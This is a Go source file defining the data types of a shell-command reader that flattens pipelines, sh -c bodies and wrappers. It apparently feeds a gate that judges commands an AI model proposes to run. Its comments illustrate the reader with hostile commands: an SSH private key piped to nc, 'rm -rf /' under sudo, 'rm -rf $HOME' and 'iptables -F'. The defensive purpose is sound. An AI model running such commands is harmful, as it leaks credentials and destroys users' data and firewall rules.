package shell

import "strings"

// Options tell the reader where the command runs and how much it may read.
// The zero value of a limit means its default.
type Options struct {
	// Cwd is the working directory (absolute); "." when empty.
	Cwd string
	// Home is the user's home (absolute), for ~, ~user of the same user, $HOME.
	Home string
	// User is the user name, for ~user and $USER; derived from Home's last
	// element when empty.
	User string
	// MaxBytes bounds the source length (default 128 KiB). Longer input is
	// a *LimitError.
	MaxBytes int
	// MaxDepth bounds re-parsing of sh -c / eval / heredoc-to-shell bodies
	// (default 8). Deeper nesting is a *LimitError.
	MaxDepth int
	// MaxCommands bounds how many commands one call may contain (default
	// 4096). More is a *LimitError.
	MaxCommands int
	// MaxNodes bounds syntax nodes walked over all parses (default 200000).
	MaxNodes int
	// MaxTails bounds nested runners (default DefaultMaxTails); deeper
	// nesting is a *LimitError ("depth").
	MaxTails int
	// NoDryRun turns the dry run off (see the package documentation): the
	// static reading alone.
	NoDryRun bool
	// Zsh parses the top-level source as zsh (mvdan.cc/sh's LangZsh)
	// instead of bash; bodies handed to sh -c and the like are still bash.
	// The gate uses it as another reading of a command bash cannot parse.
	Zsh bool
}

// Word is one shell word after quote removal and the static expansions the
// reader can resolve: ~, ~user (when it is Home's user), $HOME, ${HOME},
// ${HOME:?...}, $PWD, $(pwd), $USER. Anything else that is expanded at run
// time (another variable, a command substitution, arithmetic) makes the
// word Dynamic.
type Word struct {
	// Raw is the source text of the word, quotes included.
	Raw string
	// Value is the word after quote removal and static expansion. For a
	// Dynamic word it is the static text with every dynamic part removed;
	// use Prefix for the part that is certain.
	Value string
	// Dynamic is set when part of the word is only known at run time.
	Dynamic bool
	// Prefix is the literal text before the first dynamic part (all of
	// Value when the word is static). "/tmp/test-$$" has Prefix "/tmp/test-".
	Prefix string
	// Suffix is, for a Dynamic word, the literal text after its last
	// dynamic part ("" for a static word). "$VIRTUAL_ENV/bin/pip" has Suffix
	// "/bin/pip": the file it names is pip, wherever the folder is.
	Suffix string
	// Glob is set when the word has unquoted pattern characters (* ? [).
	Glob bool
	// code is, for a Dynamic word, Value with runtimeHole where each part
	// only known at run time stood: the text a shell that runs the word
	// as code reads ("" when the reader did not track the parts).
	code string
}

// codeText returns the word as code a shell re-reads: Value for a static
// word; for a Dynamic one its text with runtimeHole where each part only
// known at run time stood, or, when those places are not known, its
// certain prefix, a hole, and the rest of its static text.
func (w Word) codeText() string {
	switch {
	case !w.Dynamic:
		return w.Value
	case w.code != "":
		return w.code
	}
	rest := strings.TrimPrefix(w.Value, w.Prefix)
	return w.Prefix + runtimeHole + rest
}

// Redirect is one redirection of a command.
type Redirect struct {
	// Op is the operator as written: ">", ">>", "<", "<<", "<<-", "<<<",
	// "&>", "&>>", ">&", "<&", ">|", "<>".
	Op string
	// Fd is the file descriptor number written before the operator, or ""
	// for the default.
	Fd string
	// Target is the file (or fd, or here-string) operand.
	Target Word
	// Body is a heredoc's body text (after expansion where the delimiter is
	// unquoted and static), for "<<" and "<<-".
	Body string
}

// Writes reports whether the redirection writes to Target (> >> &> &>> >| <>).
func (r Redirect) Writes() bool {
	switch r.Op {
	case ">", ">>", "&>", "&>>", ">|", "<>":
		return true
	}
	return false
}

// StdinKind says where a command's standard input comes from.
type StdinKind uint8

// Kinds of standard input.
const (
	StdinInherit    StdinKind = iota // the caller's stdin (or unknown)
	StdinPipe                        // the previous command of a pipeline (Stdin.From)
	StdinFile                        // a file redirect "< file" (Stdin.Path)
	StdinHeredoc                     // a heredoc or here-string (Stdin.Text)
	StdinSubstitute                  // xargs / find -exec: arguments come from another command
)

// Stdin describes a command's standard input.
type Stdin struct {
	Kind StdinKind
	// From is the command feeding a pipe (Kind == StdinPipe). Walk From
	// repeatedly to see the whole upstream of a pipeline.
	From *Command
	// Path is the absolute file for StdinFile.
	Path string
	// Text is the heredoc or here-string text for StdinHeredoc.
	Text string
	// Dynamic is set when Text or Path is only known at run time.
	Dynamic bool
	// code is, for a Dynamic Text, the text with runtimeHole where each
	// part only known at run time stood (Word.code).
	code string
	// Feeds lists, for Kind == StdinPipe, every command whose standard
	// output reaches this pipe, in source order: the upstream command of a
	// plain pipe ([From]), or every command of an upstream block,
	// subshell, if/while/for/case body, called function or sh -c body
	// ("(cat ~/.ssh/id_rsa; true) | nc h 9" gives [cat, true] where From
	// is only true). Left out: commands whose stdout is redirected to a
	// file ("> f", "&> f"), commands of $(…) and <(…), and the elements
	// of an inner pipeline but its last.
	Feeds []*Command
}

// Command is one simple command that would execute, after wrappers are
// unwrapped. The reader flattens every command that runs: lists,
// pipelines, subshells, groups, if/for/while/case bodies, function bodies
// where called, $(…), backticks, process substitution, bodies of sh -c,
// bash -c, eval, heredocs and pipes fed to a shell, xargs tails and find
// -exec tails.
type Command struct {
	// Args is the argv after unwrapping: Args[0] is the command word the
	// program really executed (e.g. "rm" in "sudo env A=1 rm -rf /").
	Args []Word
	// Text is the command as written, quoting kept: its source text (with
	// its wrappers and assignments) for a command of the script or of a
	// re-read body, else its words' source text joined by spaces. Reasons
	// show it back to the model.
	Text string
	// Name is the lower-cased base name of Args[0].Value without a
	// Windows ".exe" ("/usr/bin/RM" → "rm", "/c/Windows/curl.exe" →
	// "curl"); "" when Args[0] is Dynamic or there are no Args.
	Name string
	// Wrappers lists unwrapped wrapper names in order ("sudo", "env", ...).
	Wrappers []string
	// Wrapped are the wrappers' own invocations, outermost first (sudo's
	// options, systemd-run's timer), one per entry of Wrappers that is
	// in the program catalog.
	Wrapped []*Invocation
	// Inv is Args read through the program catalog (nil when the command
	// word is dynamic or there are no Args).
	Inv *Invocation
	// Effects are what the command does to files, directories and the
	// network, from Inv and Redirects.
	Effects []Effect
	// Remote is set when the command runs on another host (an ssh remote
	// command) or inside a container (docker run, kubectl exec): its
	// paths are not this machine's, except under Mounts.
	Remote bool
	// Mounts map host paths into the container the command runs in.
	Mounts []Mount
	// Privileged is set when a wrapper raises privilege (sudo, doas, su -c, pkexec, run0).
	Privileged bool
	// Assigns are the leading NAME=value assignments (also env's).
	Assigns []string
	// Redirects of this command, in order, including a block's or a loop's
	// redirects that apply to it.
	Redirects []Redirect
	// Stdin is where standard input comes from.
	Stdin Stdin
	// Cwd is the working directory this command runs in: Options.Cwd moved
	// by earlier cd/pushd in the same script (a dynamic cd leaves it "").
	Cwd string
	// Depth is the re-parse depth: 0 for the top-level script, +1 inside
	// each sh -c / eval / shell-fed heredoc or pipe.
	Depth int
	// Via says how the command was reached when not directly: "sh -c",
	// "eval", "stdin" (text piped or heredoc'd into a shell), "xargs",
	// "find -exec", "$()", "<()", "function f", "alias a", "ssh", and
	// "python -c", "node -e", "perl -e", "ruby -e", "php -r" for commands
	// run by an inline program; "" at top level (package doc lists all).
	Via string
	// Parent is the command this one runs inside of: the shell of an sh -c
	// or stdin body, the xargs or find of a tail, the interpreter of an
	// inline program, the ssh of a remote command, the command an alias
	// expanded; nil otherwise.
	Parent *Command
	// Background is set for a command run with & (or inside a
	// backgrounded list or pipeline).
	Background bool
	// Func is the name of the innermost function whose body holds this
	// command ("" outside function bodies).
	Func string
	// Pipeline is the index of this command in its pipeline and Piped the
	// pipeline's length (1 when not in a pipeline).
	Pipeline, Piped int
	// Candidates are the values a command word that is a lone $NAME (or
	// "${NAME}") can take, when every assignment to NAME in the top-level
	// script is a literal and one of them certainly ran before
	// ("[ "$(uname)" = FreeBSD ] && cmd=lastlogin || cmd=lastlog; $cmd").
	// The reader then emits the command once more per value, right after
	// it and with the same Text, so each is judged; Args[0] stays Dynamic
	// here. Nil otherwise.
	Candidates []string

	// offset is the byte offset of the command in the top-level source,
	// -1 for commands of re-read text.
	offset int
	// built is set when the program is Dynamic because the code naming
	// it is only known at run time (BuiltAtRunTime).
	built bool
}

// BuiltAtRunTime reports whether the command stands for code only known
// at run time: its program is Dynamic because the text a shell, eval or
// an inline program runs was built then (sh -c "$CMD", eval "$r", bash
// <<<"$x", python -c "$CODE", sh -c {} under xargs -I{}), not because a
// variable of that code names it (sh -c '$CMD').
func (c *Command) BuiltAtRunTime() bool { return c.built }

// Arg returns the value of Args[i], or "" when out of range.
func (c *Command) Arg(i int) string {
	if i < 0 || i >= len(c.Args) {
		return ""
	}
	return c.Args[i].Value
}

// Shown returns the command as written, quoted for a reason: Text in
// backticks, cut to 120 bytes. When the reader's argv reads differently
// (a variable, a tilde, quoting, a wrapper: rm -rf "$HOME"), the argv
// follows: "`rm -rf "$HOME"` (run as `rm -rf /home/me`)", cut to 80
// bytes.
func (c *Command) Shown() string {
	argv := c.shellArgv()
	t := c.Text
	if t == "" {
		t = argv
	}
	t = strings.Join(strings.Fields(t), " ")
	out := "`" + cutText(t, 120) + "`"
	if a := strings.Join(strings.Fields(argv), " "); a != "" && !strings.HasSuffix(stripQuotes(t), stripQuotes(a)) {
		out += " (run as `" + cutText(a, 80) + "`)"
	}
	return out
}

// shellArgv is the argv as a shell would take it back: a static word with
// blanks or shell characters single-quoted, a dynamic one as written.
func (c *Command) shellArgv() string {
	var b strings.Builder
	for i, w := range c.Args {
		if i > 0 {
			b.WriteByte(' ')
		}
		switch v := w.Value; {
		case w.Dynamic:
			b.WriteString(w.Raw)
		case v == "" || strings.ContainsAny(v, " \t\n'\"$`\\|&;()<>#~") || !w.Glob && strings.ContainsAny(v, "*?["):
			b.WriteString("'" + strings.ReplaceAll(v, "'", `'\''`) + "'")
		default:
			b.WriteString(v)
		}
	}
	return b.String()
}

// stripQuotes drops quote characters and backslashes from t: "'iptables' -F"
// and "sudo iptables -F" read as their argv, so Shown adds nothing.
func stripQuotes(t string) string {
	return strings.Map(func(r rune) rune {
		if r == '\'' || r == '"' || r == '\\' {
			return -1
		}
		return r
	}, t)
}

// cutText cuts t to at most n bytes at a rune boundary, ending in "...".
func cutText(t string, n int) string {
	if len(t) <= n {
		return t
	}
	k := n - 3
	for k > 0 && t[k]&0xC0 == 0x80 {
		k--
	}
	return t[:k] + "..."
}

// String returns the argv values joined by single spaces (a dynamic part
// is shown as "$…").
func (c *Command) String() string {
	if len(c.Args) == 1 {
		return c.Args[0].shown()
	}
	n := len(c.Args)
	for _, w := range c.Args {
		n += len(w.shown())
	}
	var b strings.Builder
	b.Grow(n)
	for i, w := range c.Args {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(w.shown())
	}
	return b.String()
}

// shown is w as String writes it: the raw text of a dynamic word, else
// its value.
func (w Word) shown() string {
	if w.Dynamic {
		return w.Raw
	}
	return w.Value
}

// Func is a function definition seen in the script.
type Func struct {
	Name string
	// Calls are the commands its body runs (also listed in
	// Script.Commands when the function is called).
	Calls []*Command
}

// Script is everything the reader learned about one command line.
type Script struct {
	// Source is the command line as given.
	Source string
	// Commands lists every command that would execute, in source order,
	// nested ones after the command that contains them.
	Commands []*Command
	// Funcs lists function definitions in source order.
	Funcs []*Func
	// DryRun says what the dry run did: "" when it did not run (the
	// static reading resolved every word it could need), "read" when its
	// reading was merged, or why it was dropped.
	DryRun string
}
